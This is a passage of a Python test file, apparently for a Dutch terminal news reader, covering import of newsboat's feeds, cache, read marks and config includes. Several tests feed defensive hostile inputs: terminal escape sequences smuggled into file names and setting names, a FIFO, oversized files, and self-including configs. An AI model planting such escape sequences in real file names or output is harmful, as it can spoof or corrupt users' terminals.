def test_a_caches_items_are_filed_under_the_sources_config_toml_lists_urls_file_or_not(cli, config, tmp_path):
    """A feed that config.toml lists with a section of the user's own, and newsboat's urls file no longer does, had its
    items filed under the feed's title; and one config.toml lists for two accounts stopped the import half-way."""
    sources.save_sources([Source("https://a.example/feed", "Eigen sectie"), Source("https://anna@b.example/feed"), Source("https://bob@b.example/feed")])
    (tmp_path / "urls").write_text("https://b.example/feed\n", encoding="utf-8")
    newsboat_cache(
        tmp_path / "cache.db",
        {"https://a.example/feed": "Omroep A", "https://b.example/feed": "Omroep B"},
        [{"url": "https://a.example/1", "title": "Een", "feedurl": "https://a.example/feed"}, {"url": "https://b.example/2", "title": "Twee", "feedurl": "https://b.example/feed"}],
    )
    env = {"NIEUWS_TUI_CONFIG": str(config), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env=env)
    assert result.returncode == 0, result.stderr
    filed = {entry.article.url: entry.article.section for entry in Library(tmp_path / "library.sqlite").entries()}
    assert filed == {"https://a.example/1": "Eigen sectie", "https://b.example/2": "Omroep B"}



def test_a_fetch_files_the_items_of_an_untagged_feed_it_carries_under_their_category_once_and_for_all(tmp_path, httpserver):
    """newsboat's cache keeps no item's categories: the import files a feed's items under the feed's title, and the
    fetch those it still carries under their category, as it files what it brings. Importing again took those back
    to the feed's title, and each fetch after it to their category again, counting them updated each time."""
    from feedkit import run_fetch

    from feeds import import_newsboat_cache

    def item(slug: str) -> str:
        return f"<item><title>{slug}</title><link>https://a.example/{slug}</link><category>Verkeer</category><description>&lt;p&gt;Tekst.&lt;/p&gt;</description><pubDate>Tue, 03 Mar 2026 10:00:00 +0100</pubDate></item>"

    feed = httpserver.url_for("/feed")
    httpserver.expect_request("/feed").respond_with_data(f"<rss version='2.0'><channel><title>Omroep A</title>{item('brug')}{item('nieuw')}</channel></rss>", content_type="application/rss+xml")
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    newsboat_cache(cache, {feed: "Omroep A"}, [{"url": f"https://a.example/{slug}", "title": slug, "feedurl": feed} for slug in ("oud", "brug")])
    listed = [Source(feed)]  # without a section, as newsboat's urls file lists a feed without a tag

    def sections() -> dict[str, str | None]:
        return {entry.article.title: entry.article.section for entry in Library(library.path).entries()}

    import_newsboat_cache(library, cache, lambda url: Source(url) if url == feed else None)
    assert sections() == {"oud": "Omroep A", "brug": "Omroep A"}
    fetched = run_fetch(Library(library.path), listed).results[0]
    assert (fetched.new, fetched.updated) == (1, 1)  # brug filed under its category
    assert sections() == {"oud": "Omroep A", "brug": "Verkeer", "nieuw": "Verkeer"}  # what the feed no longer carries stays
    for _again in range(2):
        again = import_newsboat_cache(Library(library.path), cache, lambda url: Source(url) if url == feed else None).added
        assert (again.new, again.updated) == (0, 0)
        fetched = run_fetch(Library(library.path), listed).results[0]
        assert (fetched.new, fetched.updated) == (0, 0)
        assert sections() == {"oud": "Omroep A", "brug": "Verkeer", "nieuw": "Verkeer"}


def test_an_untagged_feed_files_its_items_under_the_title_the_user_gave_it_imported_and_fetched_alike(tmp_path, httpserver):
    """A feed without a tag filed its imported items under the feed's own title, where the app's `b` names the source by
    its `"~Title"`: the user found their NOS under "NOS Nieuws". A fetch files an item without a category there too,
    or the feed's articles would be split between the two names."""
    from feedkit import run_fetch

    from feeds import import_newsboat_cache

    def item(slug: str, category: str = "") -> str:
        return (f"<item><title>{slug}</title><link>https://a.example/{slug}</link>{category and f'<category>{category}</category>'}"
                "<description>&lt;p&gt;Tekst.&lt;/p&gt;</description><pubDate>Tue, 03 Mar 2026 10:00:00 +0100</pubDate></item>")  # fmt: skip

    feed = httpserver.url_for("/feed")
    httpserver.expect_request("/feed").respond_with_data(
        f"<rss version='2.0'><channel><title>Omroep A</title>{item('brug')}{item('nieuw')}{item('file', 'Verkeer')}</channel></rss>", content_type="application/rss+xml"
    )
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    newsboat_cache(cache, {feed: "Omroep A"}, [{"url": f"https://a.example/{slug}", "title": slug, "feedurl": feed} for slug in ("oud", "brug")])
    [listed], _not_feeds, _hidden, _unreadable = sources_from_urls_file(f'{feed} "~Mijn A"\n'.encode())

    def sections() -> dict[str, str | None]:
        return {entry.article.title: entry.article.section for entry in Library(library.path).entries()}

    import_newsboat_cache(library, cache, lambda url: listed if url == feed else None)
    assert sections() == {"oud": "Mijn A", "brug": "Mijn A"}
    fetched = run_fetch(Library(library.path), [listed]).results[0]
    assert (fetched.new, fetched.updated) == (2, 0)
    assert sections() == {"oud": "Mijn A", "brug": "Mijn A", "nieuw": "Mijn A", "file": "Verkeer"}  # an item's category files it still


def test_importing_newsboats_cache_again_leaves_a_story_the_library_has_at_its_new_link(tmp_path, httpserver):
    """A story is known by its feed's guid: once a fetch found it at its new link (http became https), importing
    newsboat's cache again, as a user of both readers does for newsboat's newer read marks, moved it back to the
    cache's old link, counted updated, and every fetch after it forward again, counted updated too."""
    from feedkit import run_fetch

    from feeds import import_newsboat_cache

    def feed(scheme: str) -> str:
        items = "".join(
            f"<item><title>{slug}</title><link>{scheme}://a.example/{slug}</link><guid isPermaLink='false'>a-{slug}</guid>"
            "<description>&lt;p&gt;Tekst.&lt;/p&gt;</description><pubDate>Tue, 03 Mar 2026 10:00:00 +0100</pubDate></item>"
            for slug in ("brug", "dijk")
        )
        return f"<rss version='2.0'><channel><title>Omroep A</title>{items}</channel></rss>"

    url = httpserver.url_for("/feed")
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    items = [{"url": f"http://a.example/{slug}", "guid": f"a-{slug}", "title": slug, "feedurl": url, "unread": 0} for slug in ("brug", "dijk")]
    newsboat_cache(cache, {url: "Omroep A"}, items)
    listed = [Source(url, section="Regio")]
    assert import_newsboat_cache(library, cache, lambda address: listed[0] if address == url else None).added.new == 2
    httpserver.expect_request("/feed").respond_with_data(feed("https"), content_type="application/rss+xml")
    moved = run_fetch(Library(library.path), listed).results[0]
    assert (moved.new, moved.updated) == (0, 2)

    def links() -> dict[str, tuple[str, bool]]:
        return {entry.article.title: (entry.article.url, entry.read) for entry in Library(library.path).entries()}

    assert links() == {"brug": ("https://a.example/brug", True), "dijk": ("https://a.example/dijk", True)}
    for _again in range(2):
        again = import_newsboat_cache(Library(library.path), cache, lambda address: listed[0] if address == url else None).added
        assert (again.new, again.updated, again.unchanged) == (0, 0, 2)
        assert links() == {"brug": ("https://a.example/brug", True), "dijk": ("https://a.example/dijk", True)}
        fetched = run_fetch(Library(library.path), listed).results[0]
        assert (fetched.new, fetched.updated) == (0, 0)


# -- a read mark of newsboat's applies once: what the reader marks here stays so ------------------

DIKE = {"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "feedurl": "https://nos.nl/rss"}
FERRY = {"url": "https://nos.nl/veer", "title": "Veerboot vaart weer", "feedurl": "https://nos.nl/rss"}


def _read_in_newsboat(cache, url: str, read: bool = True) -> None:
    with sqlite3.connect(cache) as connection:
        connection.execute("UPDATE rss_item SET unread = ? WHERE url = ?", (int(not read), url))
    connection.close()


def _read_marks(library_path) -> dict[str, bool]:
    return {entry.article.url: entry.read for entry in Library(library_path).entries()}


def test_importing_again_leaves_unread_what_the_reader_marked_unread_since_the_first_import(tmp_path):
    """An article read in newsboat, imported, then marked unread here, was marked read again by the next import."""
    from feeds import import_newsboat_cache

    cache, path = tmp_path / "cache.db", tmp_path / "library.sqlite"
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{**DIKE, "unread": 0}, FERRY])
    assert import_newsboat_cache(Library(path), cache, lambda url: None).read == 1
    [dike] = [entry for entry in Library(path).entries() if entry.read]
    Library(path).set_state([dike.id], read=False)  # the reader wants to read it again
    assert import_newsboat_cache(Library(path), cache, lambda url: None).read == 0
    assert _read_marks(path) == {"https://nos.nl/dijk": False, "https://nos.nl/veer": False}


def test_a_read_mark_newsboat_made_after_the_last_import_is_applied_by_the_next(tmp_path):
    from feeds import import_newsboat_cache

    cache, path = tmp_path / "cache.db", tmp_path / "library.sqlite"
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{**DIKE, "unread": 0}, FERRY])
    import_newsboat_cache(Library(path), cache, lambda url: None)
    [dike] = [entry for entry in Library(path).entries() if entry.read]
    Library(path).set_state([dike.id], read=False)
    _read_in_newsboat(cache, FERRY["url"])  # read in newsboat since
    assert import_newsboat_cache(Library(path), cache, lambda url: None).read == 1
    assert _read_marks(path) == {"https://nos.nl/dijk": False, "https://nos.nl/veer": True}
    _read_in_newsboat(cache, DIKE["url"], read=False)  # newsboat's reader marked it unread, the import saw that,
    import_newsboat_cache(Library(path), cache, lambda url: None)
    _read_in_newsboat(cache, DIKE["url"])  # and read it again: a mark made after the last import
    assert import_newsboat_cache(Library(path), cache, lambda url: None).read == 1
    assert _read_marks(path) == {"https://nos.nl/dijk": True, "https://nos.nl/veer": True}


def test_an_article_fetched_here_before_any_import_takes_newsboats_read_mark(tmp_path):
    from feeds import import_newsboat_cache
    from feeds.pages.syndication import FeedEntry, entry_article

    cache, path = tmp_path / "cache.db", tmp_path / "library.sqlite"
    fetched = entry_article(FeedEntry(DIKE["url"], DIKE["url"], DIKE["title"], "<p>Tekst.</p>", None, None, None, None), None, "https://nos.nl/rss")
    Library(path).add([(fetched, datetime.now(AMSTERDAM))])
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{**DIKE, "unread": 0}])
    assert import_newsboat_cache(Library(path), cache, lambda url: None).read == 1
    assert _read_marks(path) == {"https://nos.nl/dijk": True}


def test_a_library_of_format_9_remembers_the_read_marks_its_imports_apply_once_brought_up_to_date(tmp_path):
    from feeds import import_newsboat_cache
    from feeds.store.database import VERSION

    cache, path = tmp_path / "cache.db", tmp_path / "library.sqlite"
    library = Library(path)
    library.add([])
    with sqlite3.connect(library.files.database) as database:  # as format 9 made it
        database.execute("DROP TABLE newsboat_read")
        database.execute("UPDATE meta SET value = 9 WHERE key = 'version'")
    database.close()
    library.close()
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{**DIKE, "unread": 0}])
    assert import_newsboat_cache(Library(path), cache, lambda url: None).read == 1
    with sqlite3.connect(path) as database:
        assert database.execute("SELECT value FROM meta WHERE key = 'version'").fetchone()[0] == VERSION
    database.close()
    [dike] = Library(path).entries()
    Library(path).set_state([dike.id], read=False)
    assert import_newsboat_cache(Library(path), cache, lambda url: None).read == 0
    assert _read_marks(path) == {"https://nos.nl/dijk": False}


LEAD = "VLISSINGEN (ANP) - De dijk bij Vlissingen wordt het komende jaar versterkt, meldt het waterschap."


def test_a_read_mark_of_an_untitled_item_lands_on_the_titled_article_it_is_merged_with(tmp_path):
    """The library merges an item without a title into the stored article of the same lead, under that article's id;
    newsboat's read mark went to the id of the item, which no article has."""
    from feeds import import_newsboat_cache

    cache, path = tmp_path / "cache.db", tmp_path / "library.sqlite"
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "feedurl": "https://nos.nl/rss", "content": f"<p>{LEAD}</p>"}])
    import_newsboat_cache(Library(path), cache, lambda url: None)  # (or a fetch: the library has the titled story)
    untitled = tmp_path / "untitled.db"
    newsboat_cache(untitled, {"https://nos.nl/rss": "NOS"}, [{"url": "https://nos.nl/kort/dijk", "title": "", "unread": 0, "feedurl": "https://nos.nl/rss", "content": f"<p>{LEAD}</p>"}])
    assert import_newsboat_cache(Library(path), untitled, lambda url: None).read == 1
    assert _read_marks(path) == {"https://nos.nl/dijk": True}
    assert [Library(path).find(marked) != [] for marked, _flags in Library(path).state.load().items()] == [True]  # no mark of no article


def test_a_read_mark_of_an_untitled_item_follows_it_to_the_titled_item_of_the_same_cache(tmp_path):
    """An untitled item stored first takes the id of the titled one that comes later in the same import; its mark went
    to the id it had."""
    from feeds import import_newsboat_cache

    cache, path = tmp_path / "cache.db", tmp_path / "library.sqlite"
    newsboat_cache(
        cache,
        {"https://nos.nl/rss": "NOS"},
        [
            {"url": "https://nos.nl/kort/dijk", "title": "", "unread": 0, "feedurl": "https://nos.nl/rss", "content": f"<p>{LEAD}</p>"},
            {"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "feedurl": "https://nos.nl/rss", "content": f"<p>{LEAD}</p>"},
        ],
    )
    import_newsboat_cache(Library(path), cache, lambda url: None)
    assert _read_marks(path) == {"https://nos.nl/dijk": True}


# -- newsboat's include lines: the settings of a config split over several files -------------------


def _settings_of(file) -> tuple[dict, list[str]]:
    from feeds.newsboat import config_with_includes

    data, _where, left_out = config_with_includes(file, file.read_bytes())
    return settings_from_config(data)[0], left_out


def test_an_included_file_is_read_where_the_include_is_relative_to_the_file_that_includes_it(tmp_path, monkeypatch):
    """newsboat reads `include PATH` relative to the folder of the file the line is in, `~` its home folder: the
    settings in an included file were missed."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)  # not the folder of any of them
    folder = tmp_path / "newsboat"
    (folder / "sub").mkdir(parents=True)
    (tmp_path / "home").mkdir()
    (folder / "config").write_text('browser lynx\ninclude "sub/meer"\nkeep-articles-days 7\n', encoding="utf-8")
    (folder / "sub" / "meer").write_text("\ufeffbrowser w3m\nkeep-articles-days 30\ninclude dieper\n", encoding="utf-8")  # a BOM, too
    (folder / "sub" / "dieper").write_text("include ~/thuis\n", encoding="utf-8")
    (tmp_path / "home" / "thuis").write_text("auto-reload yes\nreload-time 15", encoding="utf-8")
    # as newsboat reads them in turn: the included file's browser over the one before it, the keep-days after it over its own
    assert _settings_of(folder / "config") == ({"browser": "w3m", "keep-days": 7, "prune-unread": True, "refresh-minutes": 15, "refresh-on-start": True}, [])


def test_an_include_that_cannot_be_followed_is_said_in_one_line_and_the_rest_is_read(tmp_path):
    folder = tmp_path / "newsboat"
    folder.mkdir()
    os.mkfifo(folder / "fifo")
    (folder / "groot").write_bytes(b"# " + b"x" * 2 * 1024 * 1024 + b"\n")
    (folder / "zelf").write_text("include config\n", encoding="utf-8")  # back to the file that includes it
    (folder / "config").write_text(
        "include fifo\ninclude groot\ninclude zelf\ninclude .\ninclude nul\x00\nbrowser lynx\n", encoding="utf-8"
    )
    settings, left_out = _settings_of(folder / "config")
    assert settings == {"browser": "lynx"}
    assert left_out == [
        f"{folder}/config:1: include {folder}/fifo left out: cannot read (not a regular file (a FIFO))",
        f"{folder}/config:2: include {folder}/groot left out: the files included may hold 1,048,576 bytes in all, 1,048,576 of them left; this one has 2,097,155",
        f"{folder}/zelf:1: include {folder}/config left out: it includes itself, by way of the include at this line",
        f"{folder}/config:4: include {folder} left out: cannot read (Is a directory)",
        f"{folder}/config:5: include {folder}/nul\\x00 left out: no file can have that name",
    ]


def test_past_the_room_for_included_text_the_limit_is_said_in_bytes_that_are_not_rounded(tmp_path):
    """In megabytes, the room left once included files filled it was said as "at most 0 MB"."""
    (tmp_path / "vol").write_bytes(b"# " + b"x" * (1024 * 1024 - 3) + b"\n")  # the room, all of it
    (tmp_path / "meer").write_text("browser lynx\n", encoding="utf-8")  # 13
    (tmp_path / "config").write_text("include vol\ninclude meer\n", encoding="utf-8")
    assert _settings_of(tmp_path / "config") == ({}, [
        f"{tmp_path}/config:2: include {tmp_path}/meer left out: the files included may hold 1,048,576 bytes in all, 0 of them left; this one has 13",
    ])  # fmt: skip


def newsboat_home(home, config: str, **included: str):
    """~/.newsboat with a urls file of one feed, a config, and the files it includes (by name: text); its folder."""
    folder = home / ".newsboat"
    folder.mkdir()
    for name, text in {"urls": "https://nos.nl/rss\n", "config": config, **included}.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_a_refused_setting_of_an_included_file_is_named_by_that_file_and_line(cli, config, tmp_path):
    folder = newsboat_home(tmp_path, "auto-reload yes\ninclude kleuren\n", kleuren="# kleuren\nreload-time vaak\n")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    assert f"nieuws-tui: left out newsboat's reload-time: {folder}/kleuren:2: refresh-minutes must be a number from 0 to 10,080, not \"vaak\"" in result.stderr.splitlines()


def test_each_setting_taken_is_said_with_the_file_it_was_in(cli, config, tmp_path):
    """All were said to come from the config, where a user looking for the included file's browser line found none."""
    folder = newsboat_home(tmp_path, "auto-reload yes\ninclude kleuren\nreload-time 20\n", kleuren="browser lynx\n")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    assert [line for line in result.stderr.splitlines() if "took newsboat's settings" in line] == [
        f"nieuws-tui: took newsboat's settings from {folder}/kleuren: browser",
        f"nieuws-tui: took newsboat's settings from {folder}/config: reload-time as refresh-minutes, auto-reload as refresh-on-start",
    ]


def test_includes_are_followed_a_bounded_depth_and_number(tmp_path):
    """A file that includes another, that includes another, … or one that includes a file thousands of times (each of
    which includes one thousands of times) is read in a bounded time, what is beyond the bounds said."""
    from feeds.newsboat import MAX_INCLUDE_DEPTH, MAX_INCLUDES

    for depth in range(12):
        (tmp_path / f"c{depth}").write_text(f"include c{depth + 1}\nreload-time {depth}\nauto-reload yes\n", encoding="utf-8")
    settings, left_out = _settings_of(tmp_path / "c0")
    assert settings["refresh-minutes"] == 0
    assert left_out == [f"{tmp_path}/c{MAX_INCLUDE_DEPTH}:1: include {tmp_path}/c{MAX_INCLUDE_DEPTH + 1} left out: includes go {MAX_INCLUDE_DEPTH} files deep at most"]
    (tmp_path / "veel").write_text("include een\n" * 5000, encoding="utf-8")
    (tmp_path / "een").write_text("include leeg\n" * 5000, encoding="utf-8")
    (tmp_path / "leeg").write_text("reload-time 5\nauto-reload yes\n", encoding="utf-8")
    settings, left_out = _settings_of(tmp_path / "veel")
    assert settings == {"refresh-minutes": 5, "refresh-on-start": True}
    assert left_out == [f"{tmp_path}/een:{MAX_INCLUDES}: include {tmp_path}/leeg left out: only the first {MAX_INCLUDES} includes are followed; it and those after it are left out"]


def test_the_cache_an_included_file_names_is_the_one_newsboat_fills_and_the_import_reads(cli, config, tmp_path, httpserver):
    """End to end: newsboat keeps its cache where a file included by a file its config includes says, relative to the
    folder of each; the import looked beside the urls file, found none, and brought no article, without a word."""
    from feedkit import RSS2

    newsboat = require_tool("newsboat")
    httpserver.expect_request("/feed").respond_with_data(RSS2, content_type="application/rss+xml")
    folder = tmp_path / ".newsboat"
    (folder / "sub").mkdir(parents=True)
    (tmp_path / "elders").mkdir()
    (folder / "urls").write_text(f"{httpserver.url_for('/feed')}\n", encoding="utf-8")
    (folder / "config").write_text('include "sub/meer"\n', encoding="utf-8")
    (folder / "sub" / "meer").write_text("include dieper\n", encoding="utf-8")
    (folder / "sub" / "dieper").write_text('cache-file "~/elders/nieuws.db"\n', encoding="utf-8")
    home = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}
    reload = [newsboat, "-u", str(folder / "urls"), "-C", str(folder / "config"), "-x", "reload"]
    subprocess.run(reload, check=True, capture_output=True, timeout=60, env=home, cwd=tmp_path / "elders")
    assert (tmp_path / "elders" / "nieuws.db").exists() and not (folder / "cache.db").exists()
    env = {"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    result = cli("sources", "import-newsboat", env=env)
    assert result.returncode == 0, result.stderr
    assert f"read 2 articles from {tmp_path}/elders/nieuws.db: 2 new" in result.stderr
    assert {entry.article.url for entry in Library(tmp_path / "library.sqlite").entries()} == {"http://example.org/dijk", "http://example.org/veer"}


def test_a_relative_cache_file_is_read_in_the_folder_newsboat_is_started_in_as_newsboat_reads_it(config, tmp_path, httpserver):
    """newsboat 2.21 keeps a cache-file its config names relative to no folder in the one it is started in, not beside the
    config; the import reads it there too, and where it finds none says where it looked, not passing over it in silence."""
    from feedkit import RSS2

    newsboat = require_tool("newsboat")
    httpserver.expect_request("/feed").respond_with_data(RSS2, content_type="application/rss+xml")
    folder = newsboat_home(tmp_path, 'cache-file "nieuws.db"\n')
    (folder / "urls").write_text(f"{httpserver.url_for('/feed')}\n", encoding="utf-8")
    started, elsewhere = tmp_path / "gestart", tmp_path / "elders"
    for made in (started, elsewhere):
        made.mkdir()
    home = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}
    reload = [newsboat, "-u", str(folder / "urls"), "-C", str(folder / "config"), "-x", "reload"]
    subprocess.run(reload, check=True, capture_output=True, timeout=60, env=home, cwd=started)
    assert (started / "nieuws.db").exists() and not (folder / "nieuws.db").exists()
    env = {**os.environ, "NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}

    def imported_in(cwd):
        return subprocess.run([*nieuws_tui_command(), "sources", "import-newsboat"], cwd=cwd, env=env, capture_output=True, text=True, timeout=60)

    missed = imported_in(elsewhere)
    assert missed.returncode == 0, missed.stderr
    assert f"nieuws-tui: {folder}/config: no newsboat cache-file nieuws.db in this folder ({elsewhere})" in missed.stderr
    found = imported_in(started)
    assert "read 2 articles from nieuws.db: 2 new" in found.stderr, found.stderr


def test_a_cache_file_the_config_names_that_is_not_there_is_said(cli, config, tmp_path):
    folder = newsboat_home(tmp_path, f'cache-file "{tmp_path}/weg/nieuws.db"\n')
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-1] == f"nieuws-tui: {folder}/config: no newsboat cache-file {tmp_path}/weg/nieuws.db; its articles are left out"


def test_an_include_left_out_is_said_in_one_line_and_the_settings_of_the_others_are_taken(cli, config, tmp_path):
    folder = newsboat_home(tmp_path, 'include "~/.newsboat/map\x1b[2J"\ninclude kleuren\n', kleuren="browser lynx\n")
    (folder / "map\x1b[2J").mkdir()
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "LANGUAGE": "nl"})
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[1:] == [
        f"nieuws-tui: {folder}/config:1: include {folder}/map\\x1b[2J weggelaten: kan niet lezen (is een map)",
        f"nieuws-tui: instellingen van newsboat overgenomen uit {folder}/kleuren: browser",  # (where its line is)
    ]
    assert sources.load_config().browser == "lynx"


@pytest.mark.parametrize(
    ("named", "shown", "reason"),
    [('"weg\x1b[2J"', "weg\\x1b[2J", "No such file or directory"), ("urls/x", "urls/x", "Not a directory")],
    ids=["not-there", "through-a-file"],
)
def test_an_include_of_a_file_that_is_not_there_is_refused_as_newsboat_refuses_it(cli, config, tmp_path, named, shown, reason):
    """newsboat 2.21 does not start: "Error while processing command `include /weg' (…/config line 2): file couldn't be
    opened.", nor with a path through a file (`include urls/x`). The import, which said so and took the rest (or
    left out the latter), took settings from a config newsboat never ran with."""
    folder = newsboat_home(tmp_path, "include kleuren\n", kleuren=f"browser lynx\ninclude {named}\n")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 2
    assert result.stderr == (
        f"nieuws-tui: error: {folder}/kleuren:2: include {folder}/{shown}: cannot read ({reason}); "
        "newsboat does not start with this config either, and nothing was imported\n"
    )
    assert not config.exists() or "nos.nl" not in config.read_text(encoding="utf-8")


def test_a_read_mark_of_an_item_the_import_keeps_away_leaves_no_mark_behind(tmp_path):
    """An article pruned here stays away when newsboat's cache still has it; its read mark was written all the same,
    a mark of an article that is not there (which `check` counts)."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [DIKE, FERRY])
    import_newsboat_cache(library, cache, lambda url: None)
    [dike] = [entry.id for entry in library.entries() if entry.article.url == DIKE["url"]]
    with library.writing() as writer:
        writer.prune([dike], listed=())
    _read_in_newsboat(cache, DIKE["url"])
    _read_in_newsboat(cache, FERRY["url"])
    assert import_newsboat_cache(Library(library.path), cache, lambda url: None).read == 1
    assert {article_id for article_id, _flags in Library(library.path).state.load().items()} == {entry.id for entry in Library(library.path).entries()}
    assert _read_marks(library.path) == {FERRY["url"]: True}


def test_newsboats_files_sit_beside_its_urls_file_and_its_cache_where_its_config_names_it(tmp_path, monkeypatch):
    from feeds import newsboat_files

    monkeypatch.setenv("HOME", str(tmp_path))
    given = newsboat_files(tmp_path / "mijn-urls")
    assert (given.urls, given.config, given.cache) == (tmp_path / "mijn-urls", tmp_path / "config", tmp_path / "cache.db")
    assert newsboat_files(tmp_path / "mijn-urls", "~/elders/nieuws.db").cache == tmp_path / "elders" / "nieuws.db"
    assert newsboat_files(tmp_path / "mijn-urls", "nieuws.db").cache.as_posix() == "nieuws.db"  # (newsboat reads it in the folder it is started in)


def test_newsboats_own_cache_is_in_the_user_data_folder_without_a_dot_newsboat_folder(tmp_path, monkeypatch):
    from feeds import newsboat_files

    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    own = newsboat_files()
    assert (own.urls, own.config, own.cache) == (tmp_path / "config/newsboat/urls", tmp_path / "config/newsboat/config", tmp_path / "data/newsboat/cache.db")
    (tmp_path / ".newsboat").mkdir()
    assert newsboat_files() == newsboat_files(tmp_path / ".newsboat" / "urls")


def test_a_cache_file_in_the_home_folder_of_no_user_is_said_and_its_articles_left_out(cli, config, tmp_path):
    """`~typo/cache.db` was read as a folder named `~typo` beside where the import ran, and what was there imported."""
    folder = newsboat_home(tmp_path, 'cache-file "~geen-gebruiker-hier/cache.db"\n')
    (tmp_path / "~geen-gebruiker-hier").mkdir()
    newsboat_cache(tmp_path / "~geen-gebruiker-hier" / "cache.db", {"https://nos.nl/rss": "NOS"}, [DIKE])
    env = {**os.environ, "NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    result = subprocess.run([*nieuws_tui_command(), "sources", "import-newsboat"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-1] == (
        f"nieuws-tui: {folder}/config: cache-file ~geen-gebruiker-hier/cache.db: there is no user geen-gebruiker-hier whose home folder ~ could name; its articles are left out"
    )
    assert not (tmp_path / "library.sqlite").exists()


def test_an_include_in_the_home_folder_of_no_user_is_refused_naming_its_line(cli, config, tmp_path):
    """`include ~typo/kleuren` was read as a file in a folder named `~typo` beside the config."""
    folder = newsboat_home(tmp_path, "include ~geen-gebruiker-hier/kleuren\n")
    (folder / "~geen-gebruiker-hier").mkdir()
    (folder / "~geen-gebruiker-hier" / "kleuren").write_text("browser lynx\n", encoding="utf-8")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 2
    assert result.stderr == (
        f"nieuws-tui: error: {folder}/config:1: include ~geen-gebruiker-hier/kleuren: there is no user geen-gebruiker-hier whose home folder ~ could name; "
        "newsboat does not start with this config either, and nothing was imported\n"
    )


def test_import_newsboat_starts_a_config_with_only_newsboats_feeds(cli, tmp_path):
    """A newsboat user's first import (no config.toml yet, at the default path): their feeds, not ZeelandNet's too."""
    (tmp_path / ".newsboat").mkdir()
    (tmp_path / ".newsboat" / "urls").write_text("https://nos.nl/rss Binnenland\n", encoding="utf-8")
    config = tmp_path / "xdg" / "nieuws-tui" / "config.toml"
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": "", "HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path / "xdg")})
    assert result.returncode == 0, result.stderr
    assert sources.load_config(config).sources == [Source("https://nos.nl/rss", "Binnenland")]


def test_the_settings_the_import_does_not_take_are_named_a_line_for_each_file_by_their_lines(cli, config, tmp_path):
    """newsboat's colours, formats and the like were passed over in silence: its user found them gone, unsaid."""
    colours = "".join(f"color listnormal color{n} default\n" for n in range(30))
    folder = newsboat_home(
        tmp_path,
        "show-read-feeds no\nbrowser lynx\ninclude kleuren\nbrowser w3m %u\narticlelist-format \"%4i %t\"\nunbind-key k\n\x1b]0;x\x07titel ja\n",
        kleuren=colours + "# einde\nhighlight all nos red\ncolor info red black\n",
    )
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    assert [line for line in result.stderr.splitlines() if "left out newsboat's settings" in line] == [
        # a control is shown escaped
        f"nieuws-tui: {folder}/config: left out newsboat's settings that nieuws-tui does not have: show-read-feeds (line 1), articlelist-format (line 5), unbind-key (line 6), \\x1b]0;x\\x07titel (line 7)",
        f"nieuws-tui: {folder}/kleuren: left out newsboat's settings that nieuws-tui does not have: color (lines 1–30, 33), highlight (line 32)",
    ]
    assert "\x1b" not in result.stderr


def test_a_config_of_thousands_of_settings_is_named_in_a_line_of_bounded_length(cli, config, tmp_path):
    newsboat_home(tmp_path, "".join(f"instelling-{n} ja\nkleur ja\n\n" for n in range(5000)))
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    [line] = [line for line in result.stderr.splitlines() if "left out newsboat's settings" in line]
    assert len(line) < 1500 and line.endswith("and 4,971 more") and "kleur (lines 2, 5, 8, 11, 14, …)" in line


# -- newsboat's key bindings: its bind-key lines as config.toml's [keys] ----------------------------------------------

NEWSBOAT_KEY_BINDINGS = (
    "bind-key ^N down\n"
